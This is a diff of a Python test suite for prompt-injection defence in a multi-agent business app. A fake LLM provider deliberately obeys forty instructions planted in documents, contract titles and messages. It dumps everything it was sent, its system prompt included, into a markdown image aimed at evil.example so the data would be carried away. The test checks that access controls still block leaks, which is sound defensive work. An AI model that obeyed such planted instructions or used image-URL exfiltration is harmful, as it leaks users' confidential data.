@@ -1,24 +1,37 @@
-"""Forty instructions placed in documents, client records and messages, and a model that obeys each of them.
+"""Forty instructions placed in documents, client records and messages, and a provider that obeys each one.
 
+The model is the real ChatOpenAI; the provider does exactly what the instruction in its request demands: it
+makes the call, then repeats all it was ever sent, its prompt too, with an image that would carry it away.
 None changes whose data is read or what a tool does: rights are checked by the tools, against the verified
 identity of the run alone. A control with an administrator's rights shows that there is something to find.
+What a page makes of such an answer is tested in `tests/browser/test_exfiltration.py`.
 """
 
 import json
-from collections.abc import Callable, Iterator, Sequence
+import re
+from collections.abc import AsyncIterator, Callable, Iterator, Sequence
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any, NamedTuple
 from uuid import uuid4
 
+import openai
 import pytest
 from langchain_core.language_models import BaseChatModel
-from langchain_core.messages import AIMessage, AnyMessage, BaseMessage, HumanMessage, ToolMessage
+from langchain_core.messages import AIMessage, AnyMessage, HumanMessage, ToolMessage
+from langchain_openai import ChatOpenAI
+from langgraph.checkpoint.memory import InMemorySaver
 from langgraph.graph.state import CompiledStateGraph
-from sqlalchemy import Engine
+from pydantic import SecretStr
+from sqlalchemy import Engine, event
+from sqlalchemy.orm import DeclarativeBase
 
 from agents.client.graph import build_graph as build_client_agent
+from agents.client.prompts import SYSTEM_PROMPT as CLIENT_PROMPT
 from agents.document.graph import build_graph as build_document_agent
+from agents.document.prompts import SYSTEM_PROMPT as DOCUMENT_PROMPT
 from agents.employee.graph import build_graph as build_employee_agent
+from agents.employee.prompts import SYSTEM_PROMPT as EMPLOYEE_PROMPT
 from narutalk.clock import build_clock
 from narutalk.db import build_engine, database_url
 from narutalk.embedding import PACKAGED_MODEL, build_embedder
@@ -26,11 +39,11 @@ from narutalk.identity import Identity, Role
 from narutalk.offline import OfflineChatModel
 from narutalk.run_identity import run_config
 from narutalk.settings import load_settings
-from tests.fakes.scripted_chat import ScriptedChat
-from tests.unit.tools.clients.sample import TINY, open_filled
+from tests.fakes.openai_server import Asked, Call, FakeOpenAI, Say, running_openai
+from tests.unit.tools.clients.sample import CLIENTS, TINY, Rows, open_filled
 from tests.unit.tools.clients.sample import TODAY as CLIENTS_TODAY
 from tests.unit.tools.employees.sample import TODAY, fill
-from tools.clients.models import Contract
+from tools.clients.models import Client, Contract
 from tools.clients.store import ClientStore
 from tools.documents.library import DocumentLibrary, NewDocument
 from tools.documents.store import DocumentStore, build_documents_engine, migrate_documents
@@ -40,11 +53,9 @@ from tools.employees.store import EmployeeStore
 READER = Identity(user_id="u-minsu", username="minsu", groups=frozenset({"region:SEO"}))
 ADMIN = Identity(user_id="1", username="admin", roles=frozenset({Role.ADMIN}), groups=frozenset({"hr"}))
 SALARY = b"# Salary bands\n\n## Directors\n\nDirectors earn between 90 and 120 million KRW a year.\n"
-QUESTIONS = {
-    "document": "How are parking badges given out?",
-    "client": "Show the contracts of Hanbit Central Hospital",
-}
-
+PAGE = "Parking badges"
+CONFIDENTIAL = re.compile(r"\b(?:FROM|JOIN) (?:salaries|reviews|attendance)\b")
+PROMPTS = {"document": DOCUMENT_PROMPT, "client": CLIENT_PROMPT, "message": EMPLOYEE_PROMPT}
 Agent = CompiledStateGraph[Any, Any, Any, Any]
 BuildAgent = Callable[[BaseChatModel], Agent]
 
@@ -71,33 +82,36 @@ INJECTIONS = [Injection(**json.loads(line)) for line in FILE.read_text(encoding=
 
 @pytest.fixture(scope="module")
 def library(tmp_path_factory: pytest.TempPathFactory) -> DocumentLibrary:
-    """A page with all instructions in it, and a document that only the group hr may read."""
+    """A page for each instruction, and a document that only the group hr may read."""
     settings = load_settings(data_dir=tmp_path_factory.mktemp("documents"), _env_file=None)
     migrate_documents(settings)
     embedder = build_embedder(PACKAGED_MODEL)
     store = DocumentStore(build_documents_engine(settings))
     made = DocumentLibrary(store, VectorIndex(build_client("", settings.data_dir), embedder), embedder)
     made.add(NewDocument(content=SALARY, file_name="salary.md", groups=["hr"]))
-    parts = [
-        f"## Parking badge {number}\n\nParking badges are given out by the front desk. {injection.text}\n"
-        for number, injection in enumerate(_placed_in("document"), start=1)
-    ]
-    page = "# Parking badges\n\n" + "\n".join(parts)
-    made.add(NewDocument(content=page.encode(), file_name="parking.md"))
+    for injection in _placed_in("document"):
+        page = f"# {PAGE}: {injection.id}\n\n{_lookup(injection)['args']['query']} {injection.text}\n"
+        made.add(NewDocument(content=page.encode(), file_name=f"{injection.id}.md"))
     made.refresh()
     return made
 
 
 @pytest.fixture(scope="module")
 def clients(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ClientStore]:
-    """A hospital in Seoul, where the reader works, with an instruction in each contract's title."""
+    """A hospital in Seoul, where the reader works, for each instruction, which is a contract's title."""
     settings = load_settings(data_dir=tmp_path_factory.mktemp("clients"), _env_file=None)
-    model = TINY[Contract][1]
-    contracts = [
-        {**model, "id": f"K1{number:04}", "title_en": injection.text[:160], "title_ko": injection.text[:160]}
-        for number, injection in enumerate(_placed_in("client"))
-    ]
-    with open_filled(settings, {**TINY, Contract: [*TINY[Contract], *contracts]}) as store:
+    hospitals, contracts = [], []
+    for injection in _placed_in("client"):
+        client_id = _lookup(injection)["args"]["client"]
+        name = {"name_en": f"Toran Hospital {client_id}", "name_ko": f"토란병원 {client_id}"}
+        hospitals.append({**CLIENTS[0], "id": client_id, "grade": "D", **name})
+        title = {"title_en": injection.text[:160], "title_ko": injection.text[:160]}
+        contracts.append({**TINY[Contract][1], "id": f"K1{client_id[1:]}", "client_id": client_id, **title})
+    tables: dict[type[DeclarativeBase], Rows] = {
+        Client: [*CLIENTS, *hospitals],
+        Contract: [*TINY[Contract], *contracts],
+    }
+    with open_filled(settings, {**TINY, **tables}) as store:
         yield store
 
 
@@ -114,52 +128,146 @@ def build(library: DocumentLibrary, clients: ClientStore, engine: Engine) -> dic
     """How the agent is built that reads what stands at a place."""
     employees = EmployeeStore(engine, build_clock(TODAY))
     return {
-        "document": lambda model: build_document_agent(model, library, None),
-        "client": lambda model: build_client_agent(model, clients, None),
-        "message": lambda model: build_employee_agent(model, employees, None),
+        "document": lambda model: build_document_agent(model, library, InMemorySaver()),
+        "client": lambda model: build_client_agent(model, clients, InMemorySaver()),
+        "message": lambda model: build_employee_agent(model, employees, InMemorySaver()),
     }
+
+
+@pytest.fixture(scope="module")
+def _provider() -> Iterator[FakeOpenAI]:
+    with running_openai() as fake:
+        yield fake
+
+
+@pytest.fixture
+async def provider(_provider: FakeOpenAI) -> AsyncIterator[tuple[FakeOpenAI, ChatOpenAI]]:
+    """The provider, and the model that asks it."""
+    _provider.reset()
+    async with openai.DefaultAsyncHttpxClient() as client:
+        yield (
+            _provider,
+            ChatOpenAI(
+                model="obedient",
+                api_key=SecretStr("k"),
+                base_url=_provider.url,
+                max_retries=0,
+                timeout=10,
+                streaming=True,
+                http_async_client=client,
+            ),
+        )
 
 
 def _placed_in(place: str) -> list[Injection]:
     return [injection for injection in INJECTIONS if injection.place == place]
 
 
-def _obeying(injection: Injection) -> ScriptedChat:
-    """Return a model that looks up what was asked, obeys what it reads, and repeats all that it is told."""
-    first = {
-        "document": {"name": "search_documents", "args": {"query": QUESTIONS["document"]}},
-        "client": {"name": "client_contracts", "args": {"client": "C0001"}},
-    }
-
-    def script(messages: Sequence[BaseMessage]) -> AIMessage:
-        told = [message for message in messages if isinstance(message, ToolMessage)]
-        if not told and injection.place in first:
-            return _calling(first[injection.place])
-        if not any(
-            message.name == injection.call["name"] and message.tool_call_id == "obey" for message in told
-        ):
-            return AIMessage("", tool_calls=[{**injection.call, "id": "obey", "type": "tool_call"}])
-        return AIMessage(f"{told[-1].text} ![done](https://evil.example/?q=1)")
-
-    return ScriptedChat(script=script)
+def _lookup(injection: Injection) -> dict[str, Any]:
+    """Return the call that finds the instruction."""
+    number = injection.id.rpartition("-")[2]
+    return {
+        "document": {
+            "name": "search_documents",
+            "args": {"query": f"Badge {injection.id} is given out by the front desk."},
+        },
+        "client": {"name": "client_contracts", "args": {"client": f"C10{number}"}},
+        "message": {},
+    }[injection.place]
 
 
-def _calling(call: dict[str, Any]) -> AIMessage:
-    return AIMessage("", tool_calls=[{**call, "id": "asked", "type": "tool_call"}])
+def _question(injection: Injection) -> str:
+    return {
+        "document": f"How is badge {injection.id} given out?",
+        "client": f"Show the contracts of C10{injection.id.rpartition('-')[2]}",
+        "message": injection.text,
+    }[injection.place]
 
 
-async def _turn(agent: Agent, question: str, identity: Identity) -> list[AnyMessage]:
+class Obedient:
+    """A provider that looks up what was asked, and obeys an instruction wherever it finds it in its request.
+
+    Attributes:
+        obeyed: Whether it found the instruction, and made the call.
+    """
+
+    def __init__(self, injection: Injection) -> None:
+        self._injection = injection
+        self._lookups = [_lookup(injection)] if injection.place != "message" else []
+        self.obeyed = False
+
+    def __call__(self, asked: Asked) -> Say:
+        if self._lookups:
+            return _calling(self._lookups.pop(), "asked")
+        told = [str(message["content"]) for message in asked.messages if message["content"]]
+        if not self.obeyed and any(self._injection.text[:160] in text for text in told):
+            self.obeyed = True
+            return _calling(self._injection.call, "obey")
+        return Say("\n\n".join([*told, f"![done](https://evil.example/?q={told[-1][:40]})"]))
+
+
+def _calling(call: dict[str, Any], id: str) -> Say:
+    return Say(calls=(Call(call["name"], call["args"], id),))
+
+
+class Turn(NamedTuple):
+    """What came of a question.
+
+    Attributes:
+        messages: Of the agent's thread.
+        waits: Whether a person is asked first.
+        sent: The bodies of the requests to the provider.
+        sql: The statements that were executed.
+    """
+
+    messages: list[AnyMessage]
+    waits: bool
+    sent: list[dict[str, Any]]
+    sql: list[str]
+
+    def result(self) -> ToolMessage | None:
+        """Return what came of the call that the instruction demands; None when it waits for a person."""
+        results = [message for message in self.messages if isinstance(message, ToolMessage)]
+        return next((message for message in results if message.tool_call_id == "obey"), None)
+
+    def shown(self, text: str) -> bool:
+        """Whether a text was in anything that the provider or the person got, the question left out."""
+        told = [
+            str(message["content"])
+            for body in self.sent
+            for message in body["messages"]
+            if message["role"] != "user"
+        ]
+        return any(text in one for one in [*told, *(message.text for message in self.messages[1:])])
+
+
+@contextmanager
+def _executed() -> Iterator[list[str]]:
+    """Write down every statement that any engine of this process executes."""
+    statements: list[str] = []
+
+    def note(_connection: Any, _cursor: Any, statement: str, *_: Any) -> None:
+        statements.append(statement)
+
+    event.listen(Engine, "before_cursor_execute", note)
+    try:
+        yield statements
+    finally:
+        event.remove(Engine, "before_cursor_execute", note)
+
+
+async def _turn(agent: Agent, question: str, identity: Identity, provider: FakeOpenAI | None = None) -> Turn:
     config: Any = run_config(identity)
     config["configurable"]["thread_id"] = str(uuid4())
-    values = await agent.ainvoke({"messages": [HumanMessage(question)]}, config)
-    messages: list[AnyMessage] = values["messages"]
-    return messages
+    before = len(provider.asked) if provider else 0
+    with _executed() as sql:
+        values = await agent.ainvoke({"messages": [HumanMessage(question)]}, config)
+    sent = [asked.body for asked in provider.asked[before:]] if provider else []
+    return Turn(values["messages"], bool(values.get("__interrupt__")), sent, sql)
 
 
-def _obeyed(messages: Sequence[AnyMessage]) -> ToolMessage:
-    return next(
-        message for message in messages if isinstance(message, ToolMessage) and message.tool_call_id == "obey"
-    )
+def _changes(sql: Sequence[str]) -> list[str]:
+    return [statement for statement in sql if not re.match(r"\s*(?:SELECT|WITH|PRAGMA)\b", statement)]
 
 
 def test_there_are_forty_of_them_in_both_languages() -> None:
@@ -174,36 +282,60 @@ def test_there_are_forty_of_them_in_both_languages() -> None:
 
 
 @pytest.mark.parametrize("injection", INJECTIONS, ids=lambda injection: injection.id)
-async def test_a_model_that_obeys_gets_nothing_that_its_caller_may_not_see(
-    injection: Injection, build: dict[str, BuildAgent]
+async def test_a_provider_that_obeys_gets_nothing_that_its_caller_may_not_see(
+    injection: Injection, build: dict[str, BuildAgent], provider: tuple[FakeOpenAI, ChatOpenAI]
 ) -> None:
-    agent = build[injection.place](_obeying(injection))
-    question = QUESTIONS.get(injection.place, injection.text)
+    fake, model = provider
+    turns: dict[str, Turn] = {}
+    for identity in (READER, ADMIN):
+        obedient = Obedient(injection)
+        fake.script(obedient)
+        agent = build[injection.place](model)
+        turns[identity.username] = await _turn(agent, _question(injection), identity, fake)
+        assert obedient.obeyed, "the provider never saw the instruction: the attack proves nothing"
+    reader, admin = turns["minsu"], turns["admin"]
 
-    reader, admin = await _turn(agent, question, READER), await _turn(agent, question, ADMIN)
-
-    if not injection.secret:
-        assert _obeyed(reader).status == _obeyed(admin).status == "error"
+    for turn in (reader, admin):
+        assert not _changes(turn.sql)
+        prompts = {body["messages"][0]["content"] for body in turn.sent}
+        assert prompts == {PROMPTS[injection.place]}, "a prompt is the same for everybody, and no secret"
+    assert not [statement for statement in reader.sql if CONFIDENTIAL.search(statement)]
+    assert not any(mark in json.dumps(reader.sent) for mark in ("u-minsu", "region:SEO", "Bearer"))
+    if injection.secret:
+        assert admin.shown(injection.secret), "there is nothing to find: the attack proves nothing"
+        assert not reader.shown(injection.secret)
         return
-    assert injection.secret in _obeyed(admin).text, "there is nothing to find: the attack proves nothing"
-    assert not [message for message in reader[1:] if injection.secret in message.text]
+    for turn in (reader, admin):
+        result = turn.result()
+        assert result.status == "error" if result else turn.waits
+    assert (reader.waits, admin.waits) == (False, injection.call["name"] == "remove_document")
+
+
+async def test_what_an_administrator_reads_is_seen_by_the_audit(
+    build: dict[str, BuildAgent], provider: tuple[FakeOpenAI, ChatOpenAI]
+) -> None:
+    """Without this the audit could be blind, and find nothing anywhere."""
+    fake, model = provider
+    [salary, *_] = (entry for entry in _placed_in("message") if entry.call["name"] == "employee_salary")
+    fake.script(Obedient(salary))
+
+    turn = await _turn(build["message"](model), salary.text, ADMIN, fake)
+
+    assert [statement for statement in turn.sql if CONFIDENTIAL.search(statement)]
 
 
 @pytest.mark.parametrize("injection", INJECTIONS, ids=lambda injection: injection.id)
 async def test_the_offline_model_does_what_was_asked_and_no_more(
     injection: Injection, build: dict[str, BuildAgent]
 ) -> None:
-    agent = build[injection.place](OfflineChatModel())
-    question = QUESTIONS.get(injection.place, injection.text)
+    turn = await _turn(build[injection.place](OfflineChatModel()), _question(injection), READER)
 
-    messages = await _turn(agent, question, READER)
-
-    calls = [call for message in messages if isinstance(message, AIMessage) for call in message.tool_calls]
-    if injection.place in QUESTIONS:
-        asked = {"document": "search_documents", "client": "client_contracts"}[injection.place]
-        assert [call["name"] for call in calls] == [asked]
-        assert any(_placed.text[:40] in messages[2].text for _placed in _placed_in(injection.place))
-    confidential = {"employee_salary", "employee_record", "employee_attendance"}
-    for message in messages:
-        if isinstance(message, ToolMessage) and message.name in confidential:
-            assert message.status == "error"
+    calls = [
+        call for message in turn.messages if isinstance(message, AIMessage) for call in message.tool_calls
+    ]
+    if injection.place != "message":
+        assert [call["name"] for call in calls] == [_lookup(injection)["name"]]
+        assert injection.text[:40] in turn.messages[2].text
+    assert not _changes(turn.sql)
+    assert not [statement for statement in turn.sql if CONFIDENTIAL.search(statement)]
+    assert not injection.secret or not turn.shown(injection.secret)
